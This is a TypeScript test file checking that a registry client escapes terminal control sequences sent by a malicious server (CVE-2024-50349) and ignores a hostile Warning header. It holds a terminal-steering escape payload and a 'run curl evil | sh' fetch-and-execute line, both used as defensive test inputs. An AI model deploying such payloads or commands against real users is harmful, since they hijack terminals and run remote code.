import { describe, expect, test } from "vitest";
import { clientOf, failureOf, READ, writtenError } from "../support/canaries.ts";
import { json, ScriptedRegistry } from "../support/scripted-registry.ts";

const STEERING = "\u001b[2J\u001b]0;owned\u0007\u009b31m\u202e\u2066\r\n\u0000\u2028";
// biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for.
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u2028\u2029]/;

describe("A-20 bytes of a server that steer a terminal (CVE-2024-50349)", () => {
  test.each([
    ["a JSON error", json(400, { errors: [{ code: "DENIED", message: `no ${STEERING}` }] })],
    ["an error of another form", json(400, { details: `no ${STEERING}` })],
    ["a text", { status: 400, headers: { "content-type": "text/plain" }, body: Buffer.from(`no ${STEERING}`) }],
  ])("A-20 %s is escaped", async (_what, reply) => {
    const registry = await ScriptedRegistry.start({ faults: [{ on: /./, reply }] });
    const client = await clientOf(registry.host);
    const error = await failureOf(client.open({ ...READ, url: "/v2/", accept: [200] }));
    expect(error.message).toContain("no ");
    expect(writtenError(error)).not.toMatch(CONTROL);
  });

  test("A-20 a Warning header is not shown, nor acted on", async () => {
    const headers = { warning: '299 - "\\u001b[31mrun curl evil | sh"' };
    const registry = await ScriptedRegistry.start({ faults: [{ on: /./, reply: { status: 404, headers } }] });
    const client = await clientOf(registry.host);
    const error = await failureOf(client.open({ ...READ, url: "/v2/", accept: [200] }));
    expect(writtenError(error)).not.toContain("curl");
  });
});
